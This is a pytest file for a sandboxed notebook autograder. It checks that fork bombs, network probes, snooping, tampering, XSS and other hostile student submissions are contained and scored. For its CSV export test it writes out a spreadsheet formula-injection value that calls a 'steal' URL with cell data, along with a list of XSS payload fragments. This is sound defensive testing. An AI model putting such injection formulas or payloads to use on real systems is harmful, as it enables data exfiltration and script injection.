"""Sandboxed parallel autograde: honest, broken and hostile submissions in one batch.

One run grades every fixture submission with several workers; the tests then assert on
its results, the gradebook, the host and the sandbox's own outputs. A second, sequential
run of the honest submissions proves the scores do not depend on the number of workers.
"""

from __future__ import annotations

import csv
import io
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
import submissions as S
from gradingkit import active_content, make_course, notebook_active_content, tree_digest

from cloudlab import engine
from cloudlab.grading import autograde, export, feedback, owners, sandbox
from cloudlab.grading.results import Result

HONEST = {"alice": "correct", "bob": "untouched", "carol": "partial"}
TIMEOUT = 25


@dataclass
class Batch:
    course: object
    results: dict[str, Result]
    before: dict[str, str]
    after: dict[str, str]
    connections: list
    feedback_files: list[Path]


def _listener() -> tuple[socket.socket, list]:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.5)
    seen: list = []

    def accept() -> None:
        while srv.fileno() != -1:
            try:
                conn, addr = srv.accept()
                seen.append(addr)
                conn.close()
            except OSError:
                if srv.fileno() == -1:
                    return

    threading.Thread(target=accept, daemon=True).start()
    return srv, seen


@pytest.fixture(scope="module")
def batch(grading_image, tmp_path_factory) -> Batch:
    root = tmp_path_factory.mktemp("course")
    course = make_course(root)
    srv, seen = _listener()
    port = srv.getsockname()[1]
    for student, kind in HONEST.items():
        S.make(root, student, kind)
    for kind in S.HOSTILE:
        S.make(root, kind, kind, port=port)
    (root / "canary.txt").write_text("untouched\n")
    watched = (root / "solutions", root / "exercises", root / "course" / "submitted")
    before = tree_digest(*watched) | tree_digest(root / "canary.txt")
    try:
        results = autograde.autograde(course, "demo", workers=4, timeout=TIMEOUT,
                                      progress=False, image=grading_image)
    finally:
        srv.close()
    after = tree_digest(*watched) | tree_digest(root / "canary.txt")
    files = feedback.feedback(course, "demo")
    return Batch(course, {r.student: r for r in results}, before, after, seen, files)


@pytest.fixture(scope="module")
def sequential(grading_image, tmp_path_factory) -> dict[str, Result]:
    root = tmp_path_factory.mktemp("course-seq")
    course = make_course(root)
    for student, kind in HONEST.items():
        S.make(root, student, kind)
    results = autograde.autograde(course, "demo", workers=1, timeout=TIMEOUT, progress=False,
                                  image=grading_image)
    return {r.student: r for r in results}


def outputs(batch: Batch, student: str) -> str:
    path = batch.course.autograded / student / "demo" / "demo.ipynb"
    nb = nbformat.read(str(path), as_version=4)
    text = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            text.append(out.get("text", "") or str(out.get("data", {}).get("text/plain", "")))
            text.append(str(out.get("evalue", "")))
    return "\n".join(text)


def test_the_probes_run_in_the_kernels_own_container(batch):
    """One container per submission: the probe stage, then the kernel (a fallback to a
    container of their own only when that stage fails)."""
    for student in HONEST:
        assert batch.results[student].probes == "kernel container", student


def test_correct_scores_full_marks_untouched_zero_partial_in_between(batch):
    r = batch.results
    assert (r["alice"].status, r["alice"].score, r["alice"].max_score) == ("graded", 6, 6)
    assert (r["bob"].status, r["bob"].score) == ("graded", 0)
    assert (r["carol"].status, r["carol"].score) == ("graded", 3)
    assert [t.passed for t in r["carol"].tests] == [True, False, True]
    assert "mean([1, 2, 3, 4]) should be 2.5" in r["carol"].tests[1].message
    assert "not answered yet" in r["bob"].tests[0].message


def test_scores_are_identical_under_one_and_many_workers(batch, sequential):
    for student in HONEST:
        many, one = batch.results[student], sequential[student]
        assert (many.status, many.score) == (one.status, one.score)
        assert [(t.name, t.score, t.message) for t in many.tests] == \
               [(t.name, t.score, t.message) for t in one.tests]


def test_every_submission_ends_with_a_verdict_and_a_reason(batch):
    assert len(batch.results) == len(HONEST) + len(S.HOSTILE)
    for r in batch.results.values():
        assert r.status in ("graded", "timed out", "crashed", "invalid")
        assert r.max_score == 6
        if r.status != "graded":
            assert r.reason, r.student


EXPECTED = {  # kind: (status, score, words in the reason); scores are the trusted graders'
    "forkbomb": ("graded", 6, ""),
    "infinite": ("timed out", 3, f"time limit of {TIMEOUT} s"),  # q2 loops: only q2 lost
    "memoryhog": ("crashed", 3, "out of memory"),
    "network": ("graded", 6, ""),
    "snoop": ("graded", 6, "links are not followed"),
    "vandal": ("graded", 6, ""),
    "flood": ("graded", 6, "truncated"),
    "exit": ("crashed", 5, "exit code 1"),
    "edited": ("graded", 4, "q1_test edited (restored"),
    "deleted": ("graded", 3, "q2_test deleted (0 points"),
    "invalid-json": ("invalid", 0, "not valid JSON"),
    "wrong-assignment": ("invalid", 0, "belongs to assignment 'other'"),
    "tamper": ("graded", 0, "flagged for review"),
    "shadow": ("graded", 0, ""),
    "transformer": ("graded", 0, ""),
    "eqtrue": ("graded", 0, ""),
    "rebind": ("graded", 0, ""),
    "helper": ("graded", 0, ""),
    "dupid": ("graded", 0, "repeats the grade id of another cell"),
    "outputs": ("graded", 4, "truncated"),  # q1's source needs a live kernel (get_ipython)
    "forger": ("graded", 0, ""),
    "stash": ("graded", 6, ""),
    "xss": ("graded", 6, ""),
}


@pytest.mark.parametrize("kind", S.HOSTILE)
def test_hostile_and_broken_submissions_get_a_score_and_a_reason(batch, kind):
    status, score, words = EXPECTED[kind]
    r = batch.results[kind]
    assert (r.status, r.score) == (status, score), r.reason
    assert words in r.reason


def test_the_host_solutions_and_other_submissions_are_untouched(batch):
    assert batch.before == batch.after
    root = batch.course.root
    assert (root / "canary.txt").read_text() == "untouched\n"
    assert not (root / "escape.txt").exists()
    assert batch.connections == [], "a sandbox reached a server on the host"


def test_the_sandbox_has_no_network(batch):
    text = outputs(batch, "network")
    assert "['NETWORK-BLOCKED', 'NETWORK-BLOCKED', 'DNS-BLOCKED'] ['lo']" in text


def test_the_sandbox_cannot_see_solutions_gradebook_classmates_or_hidden_tests(batch):
    text = outputs(batch, "snoop")
    assert "LEAKS: []" in text
    files_here = next(line for line in text.splitlines() if line.startswith("FILES HERE:"))
    assert "data.txt" in files_here
    assert "leak.txt" not in files_here and "demo.ipynb" not in files_here


def test_writes_and_deletes_stay_in_the_scratch_copy(batch):
    text = outputs(batch, "vandal")
    assert "WROTE: ['/tmp/ok.txt', 'mine.txt']" in text
    assert "DELETED: ['data.txt']" in text


def test_fork_bomb_is_stopped_by_the_pids_limit(batch):
    line = next(x for x in outputs(batch, "forkbomb").splitlines() if "forks before" in x)
    assert int(line.split(":")[1]) < sandbox.Limits().pids


def test_checkers_cannot_be_monkeypatched_and_tampering_is_flagged(batch):
    assert "TAMPER: ['AttributeError', 'AttributeError', 'AttributeError']" in \
        outputs(batch, "tamper")
    r = batch.results["tamper"]
    assert "installs a custom exception handler" in r.flags
    assert all(not t.passed for t in r.tests)
    from nbgrader.api import Gradebook

    with Gradebook(batch.course.db_url) as gb:
        assert gb.find_submission("demo", "tamper").needs_manual_grade


def test_a_submitted_cloudlab_package_cannot_replace_the_checkers(batch):
    r = batch.results["shadow"]
    assert "add(2, 3) should return the sum" in r.tests[0].message


def test_huge_output_is_capped_before_it_reaches_the_gradebook(batch):
    path = batch.course.autograded / "flood" / "demo" / "demo.ipynb"
    assert path.stat().st_size < 2_000_000


def test_display_updates_widget_state_and_errors_are_capped_too(batch):
    path = batch.course.autograded / "outputs" / "demo" / "demo.ipynb"
    assert path.stat().st_size < 2_000_000
    nb = nbformat.read(str(path), as_version=4)
    assert "widgets" not in nb.metadata
    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id")
                  == "q1_answer")
    assert sum(o.get("output_type") == "error" for o in answer.outputs) <= 3


def test_a_dead_kernel_costs_only_the_answer_that_killed_it(batch):
    r = batch.results["memoryhog"]  # the trusted graders run each answer on its own
    assert [t.passed for t in r.tests] == [True, False, True]
    assert "out of memory" in r.tests[1].message


@pytest.mark.parametrize("kind", S.ATTACKS)
def test_attacks_on_the_in_kernel_tests_score_nothing(batch, kind):
    """Each of these passed every in-kernel test cell with wrong answers before."""
    r = batch.results[kind]
    assert r.status == "graded" and r.score == 0, r.reason
    assert [t.passed for t in r.tests] == [False, False, False], r.reason
    from nbgrader.api import Gradebook

    with Gradebook(batch.course.db_url) as gb:
        assert gb.find_submission("demo", kind).score == 0


def test_a_repeated_locked_grade_id_is_scanned_and_flagged(batch):
    r = batch.results["dupid"]
    assert "installs a custom exception handler" in r.flags
    assert "repeats the grade id of another cell" in r.flags


def test_objects_that_equal_anything_are_not_plain_data(batch):
    message = batch.results["eqtrue"].tests[0].message
    assert "<a Anything object, not plain data>" in message


def test_the_graders_hidden_cases_never_reach_the_kernel_or_feedback(batch):
    grader = (batch.course.source / "demo" / "grader.py").read_text()
    assert "hidden-marker" in grader
    graded = [s for s, r in batch.results.items() if r.status == "graded"]
    assert graded, "no graded submission: nothing was checked"
    for student in batch.results:
        folder = batch.course.autograded / student / "demo"
        found = list(folder.glob("*.ipynb"))
        assert found or student not in graded, f"{student}: no autograded notebook"
        for path in found:
            assert "hidden-marker" not in path.read_text(), path


def test_a_forged_probe_result_line_scores_nothing(batch):
    r = batch.results["forger"]  # the probes run first, in the kernel's own container
    assert r.status == "graded" and r.score == 0, r.reason
    assert r.probes == "kernel container"
    text = (batch.course.autograded / "forger" / "demo" / "demo.ipynb").read_text()
    assert "FORGED INTO:" in text  # the kernel ran it too: only its own output got the line


def test_nothing_of_the_probe_stage_reaches_the_kernel(batch):
    """The probe stage sees the hidden arguments; files, shared memory and a daemon left
    there are gone, and the input deleted, before the student's kernel starts."""
    r = batch.results["stash"]
    assert r.status == "graded" and r.score == r.max_score, r.reason
    assert r.probes == "kernel container"  # not the fallback, where there is nothing to see
    text = (batch.course.autograded / "stash" / "demo" / "demo.ipynb").read_text()
    assert "FOUND: []" in text and "INPUT: absent" in text, text[-2000:]
    assert "-7, 7" not in text


def test_the_gradebook_is_consistent(batch):
    db = sqlite3.connect(batch.course.gradebook)
    try:
        assert db.execute("pragma integrity_check").fetchone()[0] == "ok"
        count = db.execute("select count(*) from submitted_assignment").fetchone()[0]
    finally:
        db.close()
    assert count == len(batch.results)
    from nbgrader.api import Gradebook

    with Gradebook(batch.course.db_url) as gb:
        for student, r in batch.results.items():
            assert gb.find_submission("demo", student).score == r.score


def test_no_grading_container_is_left_behind(batch, docker_engine):
    names = {f"{student}/demo" for student in batch.results}
    left = docker_engine.containers.list(all=True, filters={"label": sandbox.GRADER_LABEL})
    assert not [c.name for c in left if c.labels.get(sandbox.SUBMISSION_LABEL) in names]


def test_feedback_never_shows_hidden_tests(batch):
    assert len(batch.feedback_files) == len(batch.results)
    for path in batch.feedback_files:
        html = path.read_text()
        assert "hidden-marker" not in html and "BEGIN HIDDEN" not in html, path
    carol = (batch.course.feedback / "carol" / "demo" / "demo.html").read_text()
    assert "mean([1, 2, 3, 4]) should be 2.5" in carol and "3 / 6" in carol


def test_what_instructors_open_carries_no_script_from_the_student(batch):
    """Manual Grading renders the autograded notebook and the feedback page in the
    instructor's Jupyter origin: neither holds anything of the student's that could run."""
    assert "XSS-CELL-RAN" in outputs(batch, "xss"), "the hostile cells ran in the sandbox"
    path = Path("xss") / "demo" / "demo.ipynb"
    autograded = nbformat.read(str(batch.course.autograded / path), as_version=4)
    assert notebook_active_content(autograded) == []
    text = nbformat.writes(autograded)
    assert "SAFE-MARKER" in text and "HTML-MARKER" in text, "the harmless parts stay"
    page = (batch.course.feedback / "xss" / "demo" / "demo.html").read_text()
    assert active_content(page) == [] and "SAFE-MARKER" in page
    original = nbformat.read(str(batch.course.state / "originals" / path), as_version=4)
    kept = " | ".join(notebook_active_content(original))
    for payload in ("<img onerror=", "<script>", "<iframe>", "href=javascript:",
                    "output application/javascript", "widget-view", "notebook: widgets"):
        assert payload in kept, f"the record (course/originals) lost {payload}: {kept}"


def test_hidden_tests_are_absent_from_exercises(batch):
    released = (batch.course.release / "demo" / "demo.ipynb").read_text()
    assert "hidden-marker" not in released
    assert not (batch.course.release / "demo" / "grader.py").exists()


def test_export_has_one_row_per_student_and_assignment(batch, tmp_path):
    path = export.export(batch.course, tmp_path / "grades.csv")
    rows = list(csv.DictReader(path.open()))
    demo = {r["student"]: r for r in rows if r["assignment"] == "demo"}
    assert set(demo) == set(batch.results)
    assert demo["alice"]["score"] == "6.0" and demo["alice"]["status"] == "graded"
    assert demo["infinite"]["status"] == "timed out"
    assert all(r["status"] == "missing" for r in rows if r["assignment"] != "demo")


HOSTILE_NAME = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"report").ipynb'


def test_export_cells_are_never_formulas(batch, tmp_path):
    """A reason quoting a file name the student chose, and a student id a spreadsheet would
    evaluate, reach grades.csv as text (OWASP: a leading quote, every cell quoted)."""
    from nbgrader.api import Gradebook

    from cloudlab.grading import Course

    root = tmp_path / "course"
    shutil.copytree(batch.course.root / "course", root / "course")
    course = Course(root)
    result = Result.load(course.result_file("alice", "demo"))
    result.reason = f"{HOSTILE_NAME} left out: not a notebook; -1+1; @SUM(A1:A9); +cmd"
    result.save(course.result_file("alice", "demo"))
    with Gradebook(course.db_url) as gb:
        gb.update_or_create_student("@sum")  # collect accepts @ + - in ids
    with export.export(course, tmp_path / "grades.csv").open(newline="") as f:
        raw = f.read()
    rows = list(csv.reader(io.StringIO(raw)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    alice = next(r for r in csv.DictReader(io.StringIO(raw)) if r["student"] == "alice")
    assert alice["reason"] == "'" + result.reason and alice["score"] == "6.0"
    assert "'@sum" in cells
    quoted = io.StringIO()  # every cell quoted: one split on ';' keeps quoted text whole
    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerows(rows)
    assert quoted.getvalue() == raw


def test_sweep_removes_containers_of_a_dead_grader(grading_image, docker_engine):
    c = docker_engine.containers.create(
        grading_image, command=["sleep", "60"], labels={
            sandbox.GRADER_LABEL: "kernel",
            sandbox.OWNER_LABEL: f"{socket.gethostname()}:999999999"})
    dead = {sandbox.GRADER_LABEL: "artefact",
            sandbox.OWNER_LABEL: f"{socket.gethostname()}:999999999"}
    docker_engine.images.build(fileobj=io.BytesIO(b"FROM python:3.11-slim\n"),
                               labels=dead, rm=True)
    try:
        assert sandbox.sweep() >= 1
        assert not docker_engine.containers.list(all=True, filters={"id": c.id})
        assert not docker_engine.images.list(filters={"label": f"{sandbox.OWNER_LABEL}="
                                                      f"{dead[sandbox.OWNER_LABEL]}"})
        assert docker_engine.images.list(grading_image), "the grading image stays"
    finally:
        sandbox.remove(c.id)
    assert engine.available()


def test_sweep_spares_a_live_graders_containers_here_and_on_other_hosts(grading_image,
                                                                        docker_engine):
    """Two graders share the engine: another one on this machine (a live process) and one
    on another host. A grader starting its run must not remove their kernels; a label
    whose pid now belongs to an unrelated process is a dead grader's."""
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    live = (owners.owner(other.pid), owners.identity_of(other.pid))
    labels = {"live-here": live, "live-here, older grader": (live[0], ""),
              "other-host": (f"grader-elsewhere:{other.pid}", "0a1b2c3d-1"),
              "pid-reused": (live[0], "0a1b2c3d-1")}
    boxes = {name: docker_engine.containers.create(
        grading_image, command=["sleep", "60"],
        labels={sandbox.GRADER_LABEL: "kernel", sandbox.OWNER_LABEL: owner,
                sandbox.OWNER_ID_LABEL: ident})
        for name, (owner, ident) in labels.items()}
    try:
        sandbox.sweep()
        left = {name for name, box in boxes.items()
                if docker_engine.containers.list(all=True, filters={"id": box.id})}
        assert left == {"live-here", "live-here, older grader", "other-host"}
    finally:
        other.kill()
        other.wait()
        for box in boxes.values():
            sandbox.remove(box.id)
